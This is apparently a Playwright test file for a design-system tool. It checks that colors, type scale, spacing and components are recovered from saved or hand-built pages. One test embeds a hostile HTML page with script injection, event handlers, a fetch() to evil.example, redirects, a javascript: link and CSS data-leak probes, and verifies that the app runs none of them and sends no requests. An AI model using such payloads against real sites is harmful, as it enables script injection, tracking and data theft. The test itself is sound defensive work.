import { writeHtml } from '@garnish/core/proof/node';
import type { StyleDocument } from '@garnish/core/system/document';
import { derive } from '@garnish/core/derive/derive';
import { sitePage } from '@garnish/core/proof/site';
import { parseColor } from '@garnish/core/color/parse-color';
import { differenceOf } from '@garnish/core/color/difference';
import { flattened } from '@garnish/core/color/transparent';
import { writeCss } from '@garnish/core/formats/css';
import { firstPage } from '@garnish/core/proof/site';
import { rewritten } from '@garnish/core/reading/rewritten';
import { inOrder } from '@garnish/core/system/document';
import { modesOf } from '@garnish/core/system/themes';
import type { Locator, Page } from '@playwright/test';
import {
  BRACKWATER,
  KESTREL,
  TALLOW,
  copyOf,
  documentOf,
  expect,
  openArea,
  saved as settled,
  test,
  violationsOf,
} from './garnish.ts';
import { servePlain } from './plain.ts';

/** How everything on a page looks, as the browser has computed it; no boxes, as Chromium saves no fonts with a page. */
const looks = (page: Page, frame: string): Promise<readonly (readonly [string, string])[]> =>
  page.evaluate((selector) => {
    const found =
      selector === ''
        ? document
        : document.querySelector<HTMLIFrameElement>(selector)?.contentDocument;
    if (!found?.defaultView) return [];
    const { defaultView: view } = found;
    return [...found.querySelectorAll('.site *')]
      .filter((one) => !one.parentElement?.closest('svg') && one.getClientRects().length > 0)
      .map((one) => {
        const style = view.getComputedStyle(one);
        const said = [
          'font-family',
          'font-size',
          'font-weight',
          'line-height',
          'color',
          'background-color',
          'padding',
          'margin',
          'border-radius',
          'box-shadow',
          'gap',
          'border-width',
        ].map((name) => `${name}:${style.getPropertyValue(name)}`);
        return [one.localName, said.join(';')] as const;
      });
  }, frame);

/** The home page of a system as Chromium saves it, and how it looked there. */
async function savedHome(
  page: Page,
  id: string,
  system: StyleDocument,
  was: (readonly [string, string])[] = [],
): Promise<{ readonly name: string; readonly mimeType: string; readonly buffer: Buffer }> {
  const context = page.context();
  const plain = await context.newPage();
  await plain.setViewportSize({ width: 1280, height: 900 });
  await servePlain(
    plain,
    id,
    new Map([['home', writeHtml(sitePage(system, derive(system), 'home'), () => '')]]),
  );
  await plain.goto('/plain/home');
  await plain.evaluate(async () => {
    await document.fonts.ready;
  });
  was.push(...(await looks(plain, '')));
  expect(was.length).toBeGreaterThan(100);
  // As Chromium saves a page.
  const devtools = await context.newCDPSession(plain);
  const { data } = await devtools.send('Page.captureSnapshot', { format: 'mhtml' });
  await plain.close();

  return { name: 'ferries.mhtml', mimeType: 'multipart/related', buffer: Buffer.from(data) };
}

const FRAME = 'iframe[title^="Page "]';

type SentFile = Awaited<ReturnType<typeof savedHome>>;

/** The dialog of a new system with what was found in a file. */
async function foundIn(
  page: Page,
  file: SentFile,
): Promise<{ readonly dialog: Locator; readonly decisions: Locator }> {
  await page.goto('/');
  await page.getByRole('button', { name: 'New system' }).click();
  const dialog = page.getByRole('dialog', { name: 'A new system' });
  await dialog.getByText('From a site that exists').click();
  await dialog
    .getByRole('group', { name: 'Style sheets or a page' })
    .getByLabel('Choose files')
    .setInputFiles(file);
  return { dialog, decisions: dialog.getByRole('group', { name: 'Decisions that were found' }) };
}

test('a page saved by a browser as one file is shown as it was, and told by kind; one thing is told by pointing', async ({
  page,
  request,
}) => {
  const id = await copyOf(request, BRACKWATER);
  const system = await documentOf(request, id);
  const was: (readonly [string, string])[] = [];
  const saved = await savedHome(page, id, system, was);
  await openArea(page, id, 'review?view=page');
  await page
    .getByRole('group', { name: 'A page' })
    .or(page.getByRole('region', { name: 'A page that exists' }))
    .locator('input[type=file]')
    .first()
    .setInputFiles(saved);
  await page
    .getByRole('group', { name: 'Width of the page, px' })
    .getByRole('button', { name: '1280' })
    .click();
  const region = page.getByRole('region', { name: 'What is on it' });
  await expect(region).toContainText('at 1280 px, light');
  await expect.poll(async () => (await looks(page, FRAME)).length).toBe(was.length);
  const is = await looks(page, FRAME);
  const different = was.flatMap((one, index) =>
    one[1] === is[index]?.[1] ? [] : [[one, is[index]]],
  );
  expect(different.slice(0, 5)).toEqual([]);
  expect(await violationsOf(page, { within: 'main' })).toEqual([]);

  // By kind: where a value stands is marked in the page.
  await region.locator('summary', { hasText: 'corner' }).click();
  const [corner] = await region.getByRole('list', { name: 'corner' }).getByRole('button').all();
  await corner?.click();
  await expect(page.locator('svg[data-marked]')).not.toHaveAttribute('data-marked', '0');
  await expect(corner ?? region).toHaveAttribute('aria-pressed', 'true');

  // Components by what one does with them and how they look: those that the system has on this page.
  await region.locator('summary', { hasText: /^button/ }).click();
  await expect(region.getByRole('list', { name: 'button' })).toContainText(
    derive(system).tokenById.get('color.action')?.values.light.css ?? 'no such token',
  );
  await region.locator('summary', { hasText: /^card/ }).click();
  await expect(
    region.getByRole('list', { name: 'card' }).getByRole('listitem').first(),
  ).toContainText(`corner ${system.shape.radii.items['soft']?.px} px`);

  // One thing by pointing: its facts are those of the system that made it.
  const heading = page.frameLocator(FRAME).locator('h1');
  await heading.scrollIntoViewIfNeeded();
  await heading.click();
  const chosen = page.getByRole('region', { name: 'What is chosen' });
  await expect(chosen.getByRole('row', { name: /^face/ })).toContainText('Archivo');
  const size = await heading.evaluate((one) =>
    Number(Number.parseFloat(getComputedStyle(one).fontSize).toFixed(2)),
  );
  await expect(chosen.getByRole('row', { name: /^text size/ })).toContainText(String(size));
  // A color of the page becomes one of the system by a click, and is told as that.
  await page
    .frameLocator(FRAME)
    .locator('.hero-words .button, .actions .button')
    .first()
    .click({ position: { x: 3, y: 10 } });
  const ground = chosen.getByRole('row', { name: /^ground/ });
  await expect(ground).toContainText('buoy');
  await page.frameLocator(FRAME).locator('h1').click();
  const ink = chosen.getByRole('row', { name: /^color/ });
  const hex = /#[0-9a-f]{6}/.exec((await ink.textContent()) ?? '')?.[0] ?? '';
  await ink.getByRole('button', { name: 'Take color as a brand color' }).click();
  await expect(ink.getByRole('button')).toHaveCount(0);
  await settled(page);
  expect(
    Object.values((await documentOf(request, id)).color.sources.items).map(({ value }) => value),
  ).toContain(hex);
  // Opened again, it is still there.
  await page.getByRole('button', { name: 'drift', exact: true }).click();
  await expect(page.getByRole('region', { name: 'How much is the system’s' })).toContainText('%');
  await page.getByRole('button', { name: 'page', exact: true }).click();
  await expect(page.frameLocator(FRAME).locator('h1')).toBeVisible();
  // What was laid out to be held against the system is gone with that view.
  await expect(page.locator('iframe[title="Reading"]')).toHaveCount(0);
});

test('from a page that a browser saved of a system its roles are found again', async ({
  page,
  request,
}) => {
  const id = await copyOf(request, BRACKWATER);
  const system = await documentOf(request, id);
  const { tokenById } = derive(system);
  const saved = await savedHome(page, id, system);
  const { decisions } = await foundIn(page, saved);
  for (const [name, token] of [
    ['color of the page', 'color.page'],
    ['color of surfaces', 'color.surface'],
    ['color of text', 'color.text'],
    ['color of quiet text', 'color.quiet'],
    ['color of links', 'color.link'],
  ] as const)
    await expect(decisions.getByRole('listitem').filter({ hasText: name })).toContainText(
      tokenById.get(token)?.values.light.css ?? 'no such token',
    );
  const ground = parseColor(tokenById.get('color.page')?.values.light.css ?? '');
  // Lines of this system let the page shine through: 0.18 of #002121 over its page.
  await expect(decisions.getByRole('listitem').filter({ hasText: 'color of lines' })).toContainText(
    flattened('#002121', 0.18, ground.ok ? ground.hex : '#000000'),
  );
  await expect(decisions.getByRole('listitem').filter({ hasText: 'unit of space' })).toContainText(
    `${system.space.unit} px`,
  );
});

/** The value of a decision that was found, as it stands in the dialog. */
const foundValue = async (decisions: Locator, name: string): Promise<string> => {
  const line = decisions.getByRole('listitem').filter({ hasText: name });
  const select = line.getByRole('combobox');
  return (await select.count()) > 0
    ? await select.inputValue()
    : ((await line.locator('.figures').first().textContent()) ?? '').trim();
};

for (const name of [BRACKWATER, KESTREL, TALLOW])
  test(`${name}, built by hand with other names, a px and 2 % of color off: its roles, its scale, its unit and its components are found again`, async ({
    page,
    request,
  }) => {
    const id = await copyOf(request, name);
    const system = await documentOf(request, id);
    const derived = derive(system);
    const [mode] = modesOf(derived.themes);
    const built = rewritten(
      writeCss(derived, system.tokens.sheet),
      [writeHtml(sitePage(system, derived, firstPage(system)), () => '')],
      { seed: name, noisePx: 1, noiseColor: 0.02 },
    );
    const html = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Built</title><style>${built.css}</style></head><body>${built.pages[0] ?? ''}</body></html>`;
    const file = { name: 'built.html', mimeType: 'text/html', buffer: Buffer.from(html) };
    const { dialog, decisions } = await foundIn(page, file);
    await expect(decisions.getByRole('region', { name: 'Color' })).toBeVisible();
    for (const [words, role] of [
      ['color of the page', 'page'],
      ['color of text', 'text'],
    ] as const) {
      const hex = (await foundValue(decisions, words)) as `#${string}`;
      const was = derived.tokenById.get(`color.${role}`)?.values[mode].css as `#${string}`;
      // Two of a hundred of each channel are less than six of CIEDE2000.
      expect([words, differenceOf(hex, was) < 6, hex, was]).toEqual([words, true, hex, was]);
    }
    const anchors = inOrder(system.type.anchors).map(([, anchor]) => anchor);
    await expect
      .poll(async () => {
        const found = [
          ...(await foundValue(decisions, 'base size and ratio')).matchAll(
            /([\d.]+) px × ([\d.]+)/g,
          ),
        ];
        const [low, high] = [found[0], found.at(-1)].map((one) => [
          Number(one?.[1]),
          Number(one?.[2]),
        ]);
        return [
          Math.abs((low?.[0] ?? 0) - (anchors[0]?.base ?? 0)) < 0.8,
          Math.abs((high?.[0] ?? 0) - (anchors.at(-1)?.base ?? 0)) < 0.8,
          Math.abs((low?.[1] ?? 0) - (anchors[0]?.ratio ?? 0)) < 0.03,
          Math.abs((high?.[1] ?? 0) - (anchors.at(-1)?.ratio ?? 0)) < 0.03,
          found.map(([words]) => words),
        ].slice(0, 4);
      })
      .toEqual([true, true, true, true]);
    const unit = Number.parseFloat(await foundValue(decisions, 'unit of space'));
    expect(unit % system.space.unit).toBe(0);
    await dialog.getByRole('button', { name: 'Not now' }).click();

    // What one presses is told as that, whatever it is called.
    await openArea(page, id, 'review?view=page');
    await page.locator('main input[type=file]').first().setInputFiles(file);
    const region = page.getByRole('region', { name: 'What is on it' });
    await region.locator('summary', { hasText: /^button/ }).click();
    const buttons = region.getByRole('list', { name: 'button' }).getByRole('listitem');
    const counts = await buttons.evaluateAll((all) =>
      all.map((one) => Number.parseInt(one.querySelector('.text-end')?.textContent ?? '', 10)),
    );
    const pressed = [
      'button',
      'quiet-button',
      'danger-button',
      'nav-sign',
      'sign-button',
      'plain-button',
    ]
      .map((own) => `.${built.nameOf(own)}`)
      .join(', ');
    const there = await page
      .frameLocator(FRAME)
      .locator(`:is(${pressed})`)
      .evaluateAll((all) => all.filter((one) => one.getClientRects().length > 0).length);
    expect(there).toBeGreaterThan(0);
    const told = counts.reduce((sum, count) => sum + count, 0);
    expect([there, Math.abs(told - there) <= 2, told]).toEqual([there, true, told]);
  });

const HOSTILE = `<!doctype html><html lang="en" onload="top.pwned=1"><head>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/go">
<link rel="stylesheet" href="https://evil.example/a.css"><link rel="preload" as="image" href="https://evil.example/p.png">
<link rel="icon" href="https://evil.example/i.png"><link rel="dns-prefetch" href="https://evil.example">
<style>@import url(https://evil.example/b.css);
@font-face { font-family: X; src: url(https://evil.example/x.woff2) }
body { background: url(https://evil.example/bg.png); font-family: X }
input[value^="a"] { background-image: image-set("https://evil.example/a.png" 1x) }
h1::before { content: url(https://evil.example/c.png) } h1 { u\\72l: 1; cursor: u\\72l(https://evil.example/k.cur), auto }
@media (prefers-color-scheme: dark) { body { color: rgb(250, 250, 250); background-color: rgb(0, 0, 0) } }
</style></head><body onclick="top.pwned=2"><script>top.pwned = 3; fetch('https://evil.example/f')</script>
<h1 onpointermove="top.pwned=4" style="background: url(https://evil.example/s.png); color: rgb(9, 8, 7)">Words that stay</h1>
<img src="https://evil.example/1.png" srcset="https://evil.example/2.png 2x" onerror="top.pwned=5" alt="">
<picture><source srcset="https://evil.example/3.webp"><img src="x" alt=""></picture>
<video poster="https://evil.example/4.png" src="https://evil.example/5.mp4" autoplay></video>
<iframe src="https://evil.example/6"></iframe><object data="https://evil.example/7"></object><embed src="https://evil.example/8">
<svg><script>top.pwned=6</script><image href="https://evil.example/9.png"/><use href="https://evil.example/10.svg#a"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/11.png" onerror="top.pwned=7" alt=""/></body></foreignObject></svg>
<form action="https://evil.example/12"><input value="abc"><button>Send</button></form>
<a href="javascript:top.pwned=8" ping="https://evil.example/13">Link</a><a href="https://evil.example/14" target="_top">Out</a>
<table background="https://evil.example/15.png"><tr><td>Cell</td></tr></table><math><mtext><style><img src="https://evil.example/16.png" onerror="top.pwned=9"></style></mtext></math>
</body></html>`;

test('a page that would act and ask does neither: its words are shown, and nothing is requested', async ({
  page,
  context,
  request,
}) => {
  const id = await copyOf(request, BRACKWATER);
  await openArea(page, id, 'review?view=page');
  const asked: string[] = [];
  context.on('request', (one) => asked.push(one.url()));
  await page
    .locator('main input[type=file]')
    .first()
    .setInputFiles({
      name: 'hostile.html',
      mimeType: 'text/html',
      buffer: Buffer.from(HOSTILE),
    });
  const inside = page.frameLocator(FRAME);
  await expect(inside.getByRole('heading', { name: 'Words that stay' })).toBeVisible();
  const region = page.getByRole('region', { name: 'What is on it' });
  await expect(region).toBeVisible();
  // Its style is there all the same, and what it asked for is told.
  expect(await inside.locator('h1').evaluate((one) => getComputedStyle(one).color)).toBe(
    'rgb(9, 8, 7)',
  );
  await region.locator('summary', { hasText: 'not among the files' }).click();
  for (const address of ['a.css', 'b.css', 'x.woff2', '1.png'])
    await expect(region.getByRole('list', { name: 'not among the files' })).toContainText(address);
  for (const name of ['Send', 'Link', 'Out', 'Cell'])
    await inside.getByText(name, { exact: true }).click({ force: true });
  await page
    .getByRole('group', { name: 'Theme of the page' })
    .getByRole('button', { name: 'dark' })
    .click();
  await expect
    .poll(() => inside.locator('body').evaluate((one) => getComputedStyle(one).color))
    .toBe('rgb(250, 250, 250)');
  await expect(region).toContainText('dark');
  // Black is a ground too, and what the page shows there is told of it.
  await region.locator('summary', { hasText: /^ground/ }).click();
  await expect(region.getByRole('list', { name: 'ground' })).toContainText('#000000');
  expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false);
  expect(page.url()).toContain('/review');
  expect(
    asked.filter(
      (url) =>
        !url.startsWith('data:') &&
        !/^http:\/\/127\.0\.0\.1:\d+\/(?:reading\/|assets\/|api\/|proof\/)/.test(url),
    ),
  ).toEqual([]);
});
